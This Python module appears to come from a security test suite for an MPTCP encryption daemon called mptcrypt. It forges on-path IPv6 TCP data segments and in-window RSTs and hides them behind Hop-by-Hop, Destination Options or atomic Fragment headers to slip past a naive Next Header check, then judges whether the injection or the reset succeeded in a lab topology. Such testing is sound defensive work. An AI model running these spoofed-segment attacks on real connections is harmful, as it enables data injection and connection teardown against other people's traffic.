"""Attack 12 (mptcrypt-specific), IPv6 extension headers: forged segments with a header between IPv6 and TCP.

Issue 12 item 4. A daemon that looks for TCP only in the IPv6 header's own Next Header field (`packet[6] != 6 ->
ACCEPT`) passes any segment with a Hop-by-Hop or Destination Options header (or an atomic Fragment header,
RFC 6946) untouched, MAC or not, and the kernel walks the chain (RFC 8200 §4) and hands the segment to TCP. So an
on-path attacker gets back every injection the MAC was meant to stop. This row runs on `topologies/hijack.py
ipv6=True` (the same layout on ULA addresses, an IPv6 MPTCP connection). Right after a client data segment on
path 1, the attacker forges from the client, at the server's exact rcv_nxt, a data segment with a valid DSS
mapping for its own marker (`INJECTED-BY-ATTACKER`), once behind Hop-by-Hop + Destination Options and once behind
an atomic Fragment header; then in-window RSTs in both directions behind Hop-by-Hop + Destination Options. Against
plain MPTCP over IPv6 this is data injection and RST (attacks 4d and 5).

Effect measured: the marker in the server application's stream (upload sha256 changed), or the path-1 subflow gone
from the server's `ss`.
"""

from __future__ import annotations

import time

from mptcrypt.attacks.common import (ACK, INJECT_MARK, PSH, RST, ipv6_ext_headers, mptcp_opt, rcv_nxt_at_server,
                                     spoof_to_client, spoof_to_server)
from mptcrypt.attacks.judging import decide
from mptcrypt.attacks.runner import Evidence, Verdict
from mptcrypt.wire.mptcp import MptcpOption

NUMBER = 12
TITLE = "IPv6 Hop-by-Hop / Destination Options / atomic Fragment header before forged data and RST"
SOURCE = "issue 12 item 4; RFC 8200 §4 (extension headers), RFC 6946 (atomic fragments); RFC 6181"
FAMILY = 6  # runs on hijack.py ipv6=True
DATA_CHAINS = (("hbh", "dst"), ("frag",), ("hbh", "dst"))
RST_CHAIN = ("hbh", "dst")


def attack(agent) -> dict:
    v = agent.view
    if v.cport is None or v.c2s.isn is None:
        return {"skipped": "no connection"}
    sent = []
    for i, chain in enumerate(DATA_CHAINS):
        if agent.next_upload_segment(timeout=0.6) is None:
            continue
        dsn, seq = v.next_dsn_c2s(), rcv_nxt_at_server(v)
        if dsn is None or seq is None:
            continue
        payload = INJECT_MARK + b"-%02d\n" % i
        dss = MptcpOption.dss(data_seq=dsn, subflow_seq=(seq - v.c2s.isn) & 0xFFFFFFFF, data_len=len(payload))
        agent.send(spoof_to_server(v, ACK | PSH, [mptcp_opt(dss)], payload, seq=seq,
                                   ext_headers=ipv6_ext_headers(chain)),
                   "data with DSS mapping behind " + "+".join(chain) + " (spoofed client -> server)",
                   seq=seq, dsn=dsn, bytes=len(payload))
        sent.append("+".join(chain))
        agent.pump(time.time() + 0.2)
    ext = lambda: ipv6_ext_headers(RST_CHAIN)  # noqa: E731 (fresh headers per frame)
    tries = agent.strike(lambda: spoof_to_server(v, RST, seq=rcv_nxt_at_server(v), ext_headers=ext()),
                         lambda: spoof_to_client(v, RST, seq=v.s2c.nxt, ext_headers=ext()),
                         "RST behind " + "+".join(RST_CHAIN), tries=3)
    return {"data_injections": sent, "rst_tries_until_dead": tries}


def judge(ev: Evidence) -> Verdict:
    up = ev.transfer["upload"]
    before = ev.paths_at("server", ev.attack_t)
    after = ev.paths_at("server", ev.steady_end)
    killed = "path1" in before and "path1" not in after
    evidence = {
        "family": f"IPv{ev.family}",
        "data_injections_sent": ev.result.get("data_injections"),
        "markers_in_server_app": up["injected_markers"],
        "server_path1_subflow_before": "path1" in before,
        "server_path1_subflow_after": "path1" in after,
        "rst_tries_until_dead": ev.result.get("rst_tries_until_dead"),
    }
    effects = []
    if up["injected_markers"]:
        effects.append(f"{up['injected_markers']} injected chunks reached the server app (upload sha256 changed)")
    if killed:
        effects.append("the RST killed the path-1 subflow")
    return decide(ev, bool(effects), "; ".join(effects),
                  "forged segments behind extension headers dropped: no marker in the server app, path-1 subflow "
                  "alive", evidence)
